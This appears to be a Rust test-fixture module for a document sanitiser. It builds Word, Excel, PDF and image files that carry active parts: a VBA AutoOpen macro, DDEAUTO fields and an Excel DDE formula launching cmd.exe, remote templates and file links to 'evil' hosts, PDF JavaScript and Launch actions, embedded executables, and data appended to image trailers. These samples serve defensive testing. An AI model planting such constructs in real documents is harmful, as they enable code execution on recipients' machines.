//! Documents built in code for the tests: each carries the active parts a
//! real attack uses, next to ordinary content that must survive. Test
//! fixtures only (feature `testdocs`), so a failure here may panic.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::io::{Cursor, Read, Write};

pub fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

pub fn ole2(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, bytes) in streams {
        let path = format!("/{path}");
        if let Some((dir, _)) = path.rsplit_once('/')
            && !dir.is_empty()
        {
            file.create_storage_all(dir).unwrap();
        }
        file.create_stream(&path).unwrap().write_all(bytes).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

pub fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, bytes) in parts {
        w.start_file(*name, opts).unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Every entry of a package, XML parts checked to be well-formed.
pub fn unzip(bytes: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let mut z = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut out = BTreeMap::new();
    for i in 0..z.len() {
        let mut f = z.by_index(i).unwrap();
        let name = f.name().unwrap().into_owned();
        let mut data = Vec::new();
        f.read_to_end(&mut data).unwrap();
        if name.ends_with(".xml") || name.ends_with(".rels") {
            let mut r = quick_xml::Reader::from_reader(&data[..]);
            let mut buf = Vec::new();
            loop {
                match r.read_event_into(&mut buf) {
                    Ok(quick_xml::events::Event::Eof) => break,
                    Ok(_) => {}
                    Err(e) => panic!("{name} is not well-formed: {e}"),
                }
                buf.clear();
            }
        }
        out.insert(name, data);
    }
    out
}

const W: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office""#;
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

fn root_rels() -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>"#
    )
}

/// A Word document with a VBA project (the .docm an attacker mails).
pub fn docm_with_vba() -> Vec<u8> {
    let types = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/></Types>"#;
    let doc = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body><w:p><w:r><w:t>Hello 申請書</w:t></w:r></w:p></w:body></w:document>"#
    );
    let rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#;
    let vba_rels = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>"#;
    zip(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root_rels().as_bytes()),
        ("word/document.xml", doc.as_bytes()),
        ("word/_rels/document.xml.rels", rels.as_bytes()),
        ("word/vbaProject.bin", b"\xD0\xCF\x11\xE0 Attribute VB_Name = \"AutoOpen\" Shell(\"calc\")"),
        ("word/_rels/vbaProject.bin.rels", vba_rels.as_bytes()),
        ("word/vbaData.xml", b"<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>"),
    ])
}

/// A Word document with a remote template, a DDE field, an OLE object, a
/// `file:` hyperlink next to a web one, and a stray part not in the types.
pub fn docx_with_links_dde_and_ole() -> Vec<u8> {
    let types = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>"#;
    let doc = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>
<w:p><w:r><w:t>Keep this paragraph</w:t></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr="DDEAUTO cmd.exe /c notepad"><w:r><w:t>simple result</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:hyperlink r:id="rId3"><w:r><w:t>web link text</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId4"><w:r><w:t>share link text</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rId6"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId5"/></w:object></w:r></w:p>
</w:body></w:document>"#
    );
    let doc_rels = format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/settings" Target="settings.xml"/><Relationship Id="rId3" Type="{REL}/hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/><Relationship Id="rId4" Type="{REL}/hyperlink" Target="file://///evil-share/c$/run.exe" TargetMode="External"/><Relationship Id="rId5" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId6" Type="{REL}/image" Target="media/image1.png"/></Relationships>"#
    );
    let settings = format!(
        r#"<?xml version="1.0"?><w:settings {W}><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>"#
    );
    let settings_rels = format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="\\evil-host\templates\remote.dotm" TargetMode="External"/></Relationships>"#
    );
    zip(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root_rels().as_bytes()),
        ("word/document.xml", doc.as_bytes()),
        ("word/_rels/document.xml.rels", doc_rels.as_bytes()),
        ("word/settings.xml", settings.as_bytes()),
        ("word/_rels/settings.xml.rels", settings_rels.as_bytes()),
        (
            "word/embeddings/oleObject1.bin",
            b"\xD0\xCF\x11\xE0 Ole10Native MZ payload",
        ),
        ("word/media/image1.png", b"\x89PNG preview"),
        ("word/hidden.exe", b"MZ not in the types"),
    ])
}

/// An Excel workbook linked to an outside workbook, with a DDE formula.
pub fn xlsx_with_link_and_dde() -> Vec<u8> {
    let types = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>"#;
    let root = format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
    );
    let book = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="集計" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>"#;
    let book_rels = format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{REL}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>"#
    );
    let sheet = r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>合計</t></is></c><c r="B1"><f>SUM(1,2)</f><v>3</v></c><c r="C1"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData></worksheet>"#;
    let link = r#"<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>"#;
    let link_rels = format!(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/externalLinkPath" Target="file:///\\fileserver\budget\secret.xlsx" TargetMode="External"/></Relationships>"#
    );
    zip(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", book_rels.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
        ("xl/externalLinks/externalLink1.xml", link.as_bytes()),
        (
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            link_rels.as_bytes(),
        ),
    ])
}

/// A one-page PDF whose text is "Hello", opening with JavaScript, with a
/// named script, an embedded executable, a page action and a Launch link.
pub fn pdf_with_active_parts() -> Vec<u8> {
    use lopdf::{Dictionary, Document, Object, Stream, dictionary};
    let mut doc = Document::with_version("1.7");
    let pages_id = doc.new_object_id();
    let font_id = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
    });
    let content = b"BT /F1 24 Tf 72 720 Td (Hello) Tj ET".to_vec();
    let content_id = doc.add_object(Stream::new(Dictionary::new(), content));
    let js_id = doc.add_object(dictionary! {
        "Type" => "Action", "S" => "JavaScript",
        "JS" => Object::string_literal("app.alert('pwned')"),
    });
    let launch = dictionary! {
        "S" => "Launch", "F" => Object::string_literal("cmd.exe"),
    };
    let annot_id = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![0.into(), 0.into(), 100.into(), 100.into()],
        "A" => launch,
    });
    let page_id = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id,
        "MediaBox" => vec![0.into(), 0.into(), 612.into(), 792.into()],
        "Contents" => content_id,
        "Resources" => dictionary! { "Font" => dictionary! { "F1" => font_id } },
        "Annots" => vec![annot_id.into()],
        "AA" => dictionary! { "O" => js_id },
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
        }),
    );
    let file_id = doc.add_object(Stream::new(
        dictionary! { "Type" => "EmbeddedFile" },
        b"MZ-payload".to_vec(),
    ));
    let spec_id = doc.add_object(dictionary! {
        "Type" => "Filespec", "F" => Object::string_literal("run.exe"),
        "EF" => dictionary! { "F" => file_id },
    });
    let named_js = doc.add_object(dictionary! {
        "S" => "JavaScript", "JS" => Object::string_literal("app.alert('named')"),
    });
    let catalog_id = doc.add_object(dictionary! {
        "Type" => "Catalog", "Pages" => pages_id,
        "OpenAction" => js_id,
        "Names" => dictionary! {
            "JavaScript" => dictionary! { "Names" => vec![Object::string_literal("a"), named_js.into()] },
            "EmbeddedFiles" => dictionary! { "Names" => vec![Object::string_literal("run.exe"), spec_id.into()] },
        },
    });
    doc.trailer.set("Root", catalog_id);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    // Bytes appended after %%EOF, as a polyglot would carry them.
    out.extend_from_slice(b"\nPK\x03\x04 trailing");
    out
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A 4×3 PNG with a tEXt chunk and a zip glued after IEND.
pub fn png_with_metadata_and_zip() -> Vec<u8> {
    let img = image::RgbImage::from_pixel(4, 3, image::Rgb([200, 10, 10]));
    let mut png = Vec::new();
    image::DynamicImage::ImageRgb8(img)
        .write_to(&mut Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    // After the signature (8) and IHDR (4 + 4 + 13 + 4).
    let at = 8 + 25;
    let text = b"tEXtAuthor\0secret-author";
    let mut chunk = ((text.len() - 4) as u32).to_be_bytes().to_vec();
    chunk.extend_from_slice(text);
    chunk.extend_from_slice(&crc32(text).to_be_bytes());
    png.splice(at..at, chunk);
    png.extend_from_slice(&zip(&[("evil.js", b"WScript.Shell")]));
    png
}

/// A 16×16 JPEG with an XMP APP1 segment, a comment, and a script after EOI.
pub fn jpeg_with_metadata_and_trailer() -> Vec<u8> {
    let img = image::RgbImage::from_pixel(16, 16, image::Rgb([10, 120, 200]));
    let mut jpeg = Vec::new();
    image::DynamicImage::ImageRgb8(img)
        .write_to(&mut Cursor::new(&mut jpeg), image::ImageFormat::Jpeg)
        .unwrap();
    let mut seg = Vec::new();
    let xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>GPS-here</x:xmpmeta>";
    seg.extend_from_slice(&[0xFF, 0xE1]);
    seg.extend_from_slice(&((xmp.len() + 2) as u16).to_be_bytes());
    seg.extend_from_slice(xmp);
    let com = b"camera owner";
    seg.extend_from_slice(&[0xFF, 0xFE]);
    seg.extend_from_slice(&((com.len() + 2) as u16).to_be_bytes());
    seg.extend_from_slice(com);
    jpeg.splice(2..2, seg);
    jpeg.extend_from_slice(b"<script>alert(1)</script>");
    jpeg
}

/// A 2×2 GIF with a comment block and bytes after the trailer.
pub fn gif_with_comment() -> Vec<u8> {
    let img = image::RgbaImage::from_pixel(2, 2, image::Rgba([0, 255, 0, 255]));
    let mut gif = Vec::new();
    image::DynamicImage::ImageRgba8(img)
        .write_to(&mut Cursor::new(&mut gif), image::ImageFormat::Gif)
        .unwrap();
    assert_eq!(gif.pop(), Some(0x3B));
    let note = b"hidden note";
    gif.extend_from_slice(&[0x21, 0xFE, note.len() as u8]);
    gif.extend_from_slice(note);
    gif.extend_from_slice(&[0x00, 0x3B]);
    gif.extend_from_slice(b"appended");
    gif
}
